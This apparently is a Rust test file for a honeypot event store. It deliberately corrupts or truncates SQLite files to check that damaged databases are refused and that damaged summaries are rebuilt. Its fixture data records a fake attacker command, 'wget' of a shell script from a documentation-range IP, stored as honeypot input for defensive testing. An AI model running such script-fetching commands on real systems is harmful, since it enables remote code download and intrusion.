//! A damaged database at start: the events database is refused with what to do (every
//! write would otherwise be refused and dead-lettered while hpti looked up), damaged
//! summaries are set aside and folded again from the events.

#![allow(clippy::unwrap_used, clippy::expect_used)] // tests panic on failure by design

use std::io::{Seek, SeekFrom, Write};
use std::net::IpAddr;
use std::path::Path;

use hpti_core::event::{Event, EventKind, Protocol, Timestamp};
use hpti_core::sink::Sink;
use hpti_store::{EventQueries, SqliteOptions, SqliteStore, StoreError, Window};

async fn filled(path: &Path) {
    let store = SqliteStore::open(SqliteOptions::new(path)).await.unwrap();
    let base = Timestamp::now().saturating_add_micros(-60_000_000);
    let events: Vec<Event> = (0..3_000)
        .map(|i| {
            Event::new(
                "damaged",
                Protocol::Ssh,
                IpAddr::from([198, 51, 100, (i % 50) as u8 + 1]),
                EventKind::CommandInput {
                    command: format!(
                        "wget http://203.0.113.{}/x{i}.sh {}",
                        i % 200,
                        "y".repeat(200)
                    ),
                },
            )
            .with_session(format!("s{}", i / 30))
            .with_time(base.saturating_add_micros(i as i64))
        })
        .collect();
    let refs: Vec<&Event> = events.iter().collect();
    store.write(&refs).await.unwrap();
    store.refresh_summaries().await.unwrap();
    store.close().await;
}

/// Copies the write-ahead log into the database file itself.
async fn checkpoint(path: &Path) {
    use sqlx::Connection as _;
    let mut connection = sqlx::SqliteConnection::connect(&format!("sqlite://{}", path.display()))
        .await
        .unwrap();
    sqlx::query("PRAGMA wal_checkpoint(TRUNCATE)")
        .execute(&mut connection)
        .await
        .unwrap();
    connection.close().await.unwrap();
}

/// Overwrites pages in the middle of `path` with garbage, as a bad sector would, once
/// its write-ahead log is in the file itself.
async fn damage(path: &Path) {
    checkpoint(path).await;
    let len = std::fs::metadata(path).unwrap().len();
    assert!(
        len >= 32 * 1024,
        "{} is too small to damage: {len}",
        path.display()
    );
    let mut file = std::fs::OpenOptions::new().write(true).open(path).unwrap();
    file.seek(SeekFrom::Start((len / 2) & !4095)).unwrap();
    file.write_all(&vec![0xA5; (len / 4).min(16 * 1024) as usize])
        .unwrap();
    file.sync_all().unwrap();
}

#[tokio::test]
async fn a_damaged_events_database_is_refused_with_what_to_do() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("hpti.db");
    filled(&path).await;
    damage(&path).await;
    let err = SqliteStore::open(SqliteOptions::new(&path))
        .await
        .expect_err("a damaged database must not be opened for writing");
    assert!(matches!(err, StoreError::Corrupt { .. }), "{err:?}");
    let message = err.to_string();
    assert!(message.contains(&path.display().to_string()), "{message}");
    assert!(
        message.contains(".recover") && message.contains("backup"),
        "{message}"
    );
    // Refused, not reset: the damaged file is where it was, untouched by the refusal.
    assert!(path.exists());
    let err = SqliteStore::open(SqliteOptions::new(&path))
        .await
        .unwrap_err();
    assert!(
        matches!(err, StoreError::Corrupt { .. }),
        "refused every time: {err:?}"
    );

    // Without the check the store opens: the damage is then only found by the writes
    // and reads that touch it (what the check is for).
    let mut unchecked = SqliteOptions::new(&path);
    unchecked.integrity_check = false;
    if let Ok(store) = SqliteStore::open(unchecked).await {
        store.close().await;
    }
}

#[tokio::test]
async fn damaged_summaries_are_set_aside_and_folded_again_from_the_events() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("hpti.db");
    filled(&path).await;
    let before = {
        let store = SqliteStore::open(SqliteOptions::new(&path)).await.unwrap();
        let attackers = store.attackers(Window::default().limit(100)).await.unwrap();
        store.close().await;
        attackers
    };
    assert_eq!(before.len(), 50);
    let summaries = SqliteOptions::new(&path).summaries_path();
    damage(&summaries).await;

    let store = SqliteStore::open(SqliteOptions::new(&path)).await.unwrap();
    let aside: Vec<String> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|name| name.contains(".damaged-"))
        .collect();
    assert!(
        aside
            .iter()
            .any(|n| n.starts_with("hpti-summaries.db.damaged-")),
        "kept for a look: {aside:?}"
    );
    store.refresh_summaries().await.unwrap();
    let after = store.attackers(Window::default().limit(100)).await.unwrap();
    assert_eq!(
        after
            .iter()
            .map(|a| (a.src_ip, a.events))
            .collect::<Vec<_>>(),
        before
            .iter()
            .map(|a| (a.src_ip, a.events))
            .collect::<Vec<_>>(),
        "folded again to the same totals"
    );
    store.close().await;
}

#[tokio::test]
async fn a_truncated_events_database_is_refused_too() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("hpti.db");
    filled(&path).await;
    checkpoint(&path).await;
    let len = std::fs::metadata(&path).unwrap().len();
    std::fs::OpenOptions::new()
        .write(true)
        .open(&path)
        .unwrap()
        .set_len(len / 3)
        .unwrap();
    let err = SqliteStore::open(SqliteOptions::new(&path))
        .await
        .unwrap_err();
    assert!(matches!(err, StoreError::Corrupt { .. }), "{err:?}");
    assert_eq!(
        std::fs::metadata(&path).unwrap().len(),
        len / 3,
        "left as it was"
    );
}
